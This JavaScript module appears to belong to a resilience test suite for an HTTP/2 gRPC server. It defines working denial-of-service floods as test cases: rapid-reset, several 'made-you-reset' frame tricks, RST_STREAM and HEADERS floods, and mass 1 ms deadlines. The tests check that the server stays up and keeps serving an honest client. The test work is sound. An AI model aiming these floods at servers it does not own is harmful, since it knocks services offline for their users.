// Streams that are begun to be thrown away, by either side.
import { Buffer } from "node:buffer";
import { data, frame, headers, message, request, Type, uint32, varint } from "../frames.mjs";

const rst = (id, code) => frame(Type.RST_STREAM, 0, id, uint32(code));

/** A flood of streams, each opened and then followed by what `after` gives. */
function eachStream(method, after, { endStream = false, streams = 100 } = {}) {
  return (attack) => {
    const block = request(attack.path(method));
    return attack.flood((peer) => {
      const parts = [];
      for (let i = 0; i < streams; i++) {
        const id = peer.take();
        parts.push(headers(id, block, endStream), after(id));
      }
      return Buffer.concat(parts);
    });
  };
}

/** The six ways to have the server reset a stream. */
const MADE = {
  "WINDOW_UPDATE of 0": (id) => frame(Type.WINDOW_UPDATE, 0, id, uint32(0)),
  "window overflow": (id) => {
    const most = frame(Type.WINDOW_UPDATE, 0, id, uint32(0x7fff_ffff));
    return Buffer.concat([most, most]);
  },
  "PRIORITY of 4 octets": (id) => frame(Type.PRIORITY, 0, id, Buffer.alloc(4)),
  "self-dependency": (id) => frame(Type.PRIORITY, 0, id, Buffer.concat([uint32(id), Buffer.of(0)])),
  "DATA after the end": (id) => Buffer.concat([data(id, message(), true), data(id, message())]),
  "HEADERS after the end": (id) => Buffer.concat([data(id, message(), true), headers(id, Buffer.of(0x82))]),
};

/** See `../list.mjs`. */
export default [
  {
    name: "rapid-reset",
    says: "calls that are cancelled at once",
    run: eachStream("Slow", (id) => rst(id, 8)),
  },
  ...Object.entries(MADE).map(([form, after]) => ({
    name: `made-you-reset, ${form}`,
    says: "streams that the server is made to reset",
    run: eachStream("Slow", after),
  })),
  {
    name: "rst-closed",
    says: "RST_STREAM on a stream that is closed",
    run: async (attack) => {
      const block = request(attack.path("Unary"));
      const flood = Buffer.concat(Array.from({ length: 2_000 }, () => rst(1, 8)));
      await attack.flood((peer) => peer.nextId === 1 ? headers(peer.take(), block, true) : flood);
    },
  },
  {
    name: "headers-reset",
    says: "HEADERS on a stream that was reset",
    run: async (attack) => {
      const block = request(attack.path("Slow"));
      await attack.flood((peer) => {
        if (peer.nextId === 1) {
          const id = peer.take();
          return Buffer.concat([headers(id, block), frame(Type.WINDOW_UPDATE, 0, id, uint32(0))]);
        }
        return Buffer.concat(Array.from({ length: 500 }, () => headers(1, block)));
      });
    },
  },
  {
    name: "deadlines",
    says: "calls with a deadline of 1 ms to a handler that runs for 3 s",
    run: async (attack) => {
      const block = request(attack.path("Slow"), ["grpc-timeout", "1m"]);
      const order = message(Buffer.concat([Buffer.of(0x18), varint(3_000)]));
      await attack.flood(async (peer) => {
        await new Promise((resolve) => setTimeout(resolve, 5));
        const calls = [];
        for (let i = 0; i < 100; i++) {
          const id = peer.take();
          calls.push(headers(id, block), data(id, order, true));
        }
        return Buffer.concat(calls);
      });
    },
    bounds: { handlers: 1_100 },
  },
  {
    name: "mass-cancel",
    says: "an honest client that cancels 900 calls at once: another call of its connection goes on",
    seconds: 4,
    run: async (attack) => {
      const slow = (ms) => message(Buffer.concat([Buffer.of(0x18), varint(ms)]));
      const block = request(attack.path("Slow"));
      const peer = attack.peer();
      const call = (ms) => {
        const id = peer.take();
        return [id, Buffer.concat([headers(id, block), data(id, slow(ms), true)])];
      };
      const [other, bytes] = call(1_000);
      const answered = attack.answer(peer, other);
      await peer.write(bytes);
      for (let round = 0; round < 4; round++) {
        const calls = Array.from({ length: 900 }, () => call(100));
        await peer.write(...calls.map(([, content]) => content));
        await attack.sleep(150);
        await peer.write(...calls.map(([id]) => rst(id, 8)));
        await attack.sleep(50);
      }
      if (!await answered) attack.fell(`the other call failed: ${peer.end}`);
      peer.close();
    },
  },
];
